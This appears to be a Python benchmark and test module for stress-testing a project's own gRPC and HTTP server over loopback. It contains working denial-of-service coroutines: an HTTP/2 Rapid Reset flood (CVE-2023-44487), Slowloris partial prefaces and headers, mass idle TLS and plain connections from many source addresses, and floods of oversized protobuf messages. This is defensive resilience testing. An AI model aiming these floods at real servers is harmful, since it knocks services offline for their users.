"""What one hostile peer does to a server, as coroutines that keep at it until told to stop.

Each attack speaks from its own source address (loopback has all of 127.0.0.0/8), so that a
legitimate client on another address can be measured beside it. `benchmarks.attacks` runs them
for a minute each against a server process; tests/integration/test_attacks.py runs each at a
small scale against a server in the test's event loop. Loopback only: these are for our own
servers.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from dataclasses import dataclass
from typing import Any

import h2.config
import h2.connection
import h2.events
from grpclib.client import Channel
from grpclib.const import Cardinality
from grpclib.encoding.base import CodecBase
from grpclib.protocol import H2Protocol

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# An empty SETTINGS frame: length 0, type 4, no flags, stream 0.
EMPTY_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


@dataclass(frozen=True, slots=True)
class Target:
    host: str
    port: int
    source: str  # the attacker's own address
    tls: ssl.SSLContext | None = None


class SourcedChannel(Channel):
    """A grpclib channel whose connections leave from `source` (benchmark code: it overrides
    grpclib's private `_create_connection`)."""

    def __init__(self, target: Target, **kwargs: Any) -> None:
        super().__init__(target.host, target.port, ssl=target.tls, **kwargs)
        self._source = target.source

    async def _create_connection(self) -> H2Protocol:
        _, protocol = await self._loop.create_connection(
            self._protocol_factory,
            self._host,
            self._port,
            ssl=self._ssl,
            local_addr=(self._source, 0),
        )
        return protocol


class RawCodec(CodecBase):
    """Bytes out as they are, bytes back: hostile messages on the wire."""

    __content_subtype__ = "proto"

    def encode(self, message: Any, message_type: Any) -> bytes:
        return bytes(message)

    def decode(self, data: bytes, message_type: Any) -> Any:
        return data


def varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def length_delimited(number: int, body: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(body)) + body


def unknown_fields(count: int) -> bytes:
    """`count` varint fields numbered 15, which no request of the API has: two bytes each."""
    return b"\x78\x00" * count


def empty_failures(count: int) -> bytes:
    """An UpdateManufactureStatusRequest whose run (3) lists `count` empty failures (9)."""
    return length_delimited(3, b"\x4a\x00" * count)


async def call_raw(
    channel: Channel, method: str, body: bytes, timeout_s: float = 30.0
) -> tuple[str, float]:
    """One unary call of raw bytes; (its status name, or the error's name; seconds taken)."""
    loop = asyncio.get_running_loop()
    started = loop.time()
    try:
        async with channel.request(
            method, Cardinality.UNARY_UNARY, bytes, bytes, timeout=timeout_s
        ) as stream:
            await stream.send_message(body, end=True)
            await stream.recv_message()
            await stream.recv_trailing_metadata()
        status = "OK"
    except Exception as exc:  # any outcome is a result here: the attacker does not care
        status = getattr(getattr(exc, "status", None), "name", type(exc).__name__)
    return status, loop.time() - started


async def big_messages(
    target: Target, stop: asyncio.Event, method: str, body: bytes, in_flight: int = 2
) -> int:
    """Send `body` to `method` again and again, `in_flight` at a time; returns calls made."""
    calls = 0

    async def one_lane() -> None:
        nonlocal calls
        while not stop.is_set():
            channel = SourcedChannel(target, codec=RawCodec())
            try:
                while not stop.is_set():
                    await call_raw(channel, method, body)
                    calls += 1
            finally:
                channel.close()

    await asyncio.gather(*(one_lane() for _ in range(in_flight)))
    return calls


async def _open(
    target: Target, source: str, tls: bool
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(
        target.host,
        target.port,
        local_addr=(source, 0),
        ssl=target.tls if tls else None,
        server_hostname=target.host if tls else None,
    )


async def _hold(
    target: Target,
    stop: asyncio.Event,
    count: int,
    greeting: bytes,
    *,
    sources: tuple[str, ...] = (),
    tls: bool = False,
) -> int:
    """Keep `count` connections open that sent `greeting` and then nothing (over TLS when
    `tls`, from each of `sources` in turn, else from the target's source); reopen each one
    the server closes. Returns how many connections were opened in all."""
    opened = 0

    async def one(source: str) -> None:
        nonlocal opened
        while not stop.is_set():
            try:
                reader, writer = await asyncio.wait_for(_open(target, source, tls), 5)
            except (OSError, TimeoutError):
                await asyncio.sleep(0.2)  # the attacker's own pacing when refused
                continue
            opened += 1
            try:
                if greeting:
                    writer.write(greeting)
                stopped = asyncio.ensure_future(stop.wait())
                closed = asyncio.ensure_future(_drain_until_closed(reader))
                await asyncio.wait({stopped, closed}, return_when=asyncio.FIRST_COMPLETED)
                stopped.cancel()
                closed.cancel()
            except OSError:
                pass
            finally:
                writer.close()

    addresses = sources or (target.source,)
    await asyncio.gather(*(one(addresses[index % len(addresses)]) for index in range(count)))
    return opened


async def _drain_until_closed(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def idle_connections(target: Target, stop: asyncio.Event, count: int = 1000) -> int:
    """Connections that send the HTTP/2 preface and SETTINGS, then never a call."""
    return await _hold(target, stop, count, PREFACE + EMPTY_SETTINGS)


async def partial_prefaces(target: Target, stop: asyncio.Event, count: int = 1200) -> int:
    """Slowloris: connections that send half of the preface and then wait."""
    return await _hold(target, stop, count, PREFACE[:12])


async def silent_tls(target: Target, stop: asyncio.Event, count: int = 5000) -> int:
    """Sockets to a TLS port that never send a byte of the handshake."""
    return await _hold(target, stop, count, b"")


async def idle_tls_from_many(
    target: Target, stop: asyncio.Event, count: int = 1500, addresses: int = 150
) -> int:
    """TLS connections that finish the handshake and the preface, then never call, from
    `addresses` addresses (127.0.1.x): more than the server may hold, none over its share."""
    sources = tuple(f"127.0.1.{index + 1}" for index in range(addresses))
    return await _hold(target, stop, count, PREFACE + EMPTY_SETTINGS, sources=sources, tls=True)


def _grpc_headers(target: Target, method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "https" if target.tls else "http"),
        (":path", method),
        (":authority", f"{target.host}:{target.port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


async def rapid_reset(
    target: Target,
    stop: asyncio.Event,
    *,
    burst: int = 1000,
    method: str = "/toys.v1.ToyService/GetToy",
) -> int:
    """CVE-2023-44487: HEADERS then RST_STREAM at once, in bursts of `burst` pairs, on one
    connection after another. Returns how many streams were opened and reset."""
    streams = 0
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    target.host,
                    target.port,
                    local_addr=(target.source, 0),
                    ssl=target.tls,
                    server_hostname=target.host if target.tls else None,
                ),
                5,
            )
        except (OSError, TimeoutError, ssl.SSLError):
            await asyncio.sleep(0.2)
            continue
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        headers = _grpc_headers(target, method)
        closed = asyncio.ensure_future(_feed_until_closed(reader, conn))
        try:
            writer.write(conn.data_to_send())
            while not stop.is_set() and not closed.done():
                for _ in range(burst):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    conn.reset_stream(stream_id, error_code=8)  # CANCEL
                    streams += 1
                writer.write(conn.data_to_send())
                await writer.drain()
                await asyncio.sleep(0)
        except (OSError, h2.exceptions.H2Error):
            pass
        finally:
            closed.cancel()
            writer.close()
    return streams


async def _feed_until_closed(reader: asyncio.StreamReader, conn: Any) -> None:
    """Read what the server sends and let h2 keep its state; ends at EOF or GOAWAY."""
    with contextlib.suppress(OSError, h2.exceptions.H2Error):
        while data := await reader.read(65536):
            if any(isinstance(e, h2.events.ConnectionTerminated) for e in conn.receive_data(data)):
                return


# -- the HTTP port ---------------------------------------------------------------------------


async def http_posts(
    target: Target, stop: asyncio.Event, path: str, body: bytes, in_flight: int = 2
) -> int:
    """POST `body` (JSON) to `path` again and again on keep-alive HTTP/1.1 connections,
    `in_flight` at a time, reading each answer whole; returns requests made."""
    calls = 0
    request = (
        f"POST {path} HTTP/1.1\r\nhost: toys\r\ncontent-type: application/json\r\n"
        f"content-length: {len(body)}\r\n\r\n"
    ).encode() + body

    async def one_lane() -> None:
        nonlocal calls
        while not stop.is_set():
            try:
                reader, writer = await _open(target, target.source, tls=False)
            except OSError:
                await asyncio.sleep(0.2)
                continue
            try:
                while not stop.is_set():
                    writer.write(request)
                    await _read_response(reader)
                    calls += 1
            except (OSError, asyncio.IncompleteReadError, ValueError):
                pass
            finally:
                writer.close()

    await asyncio.gather(*(one_lane() for _ in range(in_flight)))
    return calls


async def _read_response(reader: asyncio.StreamReader) -> None:
    """One HTTP/1.1 response, whole (content-length or chunked)."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").lower().split("\r\n")
    length = next(
        (int(line.split(":")[1]) for line in lines if line.startswith("content-length")), -1
    )
    if length >= 0:
        await reader.readexactly(length)
        return
    while True:  # chunked
        size = int((await reader.readuntil(b"\r\n")).strip(), 16)
        await reader.readexactly(size + 2)
        if size == 0:
            return


async def http_slow_headers(target: Target, stop: asyncio.Event, count: int = 1200) -> int:
    """Slowloris over HTTP/1.1: connections that start a request's headers, then wait."""
    return await _hold(target, stop, count, b"POST /toys.v1.ToyService/GetToy HTTP/1.1\r\nx-a: ")


async def http_silent(target: Target, stop: asyncio.Event, count: int = 1000) -> int:
    """Connections to the HTTP port that never send a byte."""
    return await _hold(target, stop, count, b"")
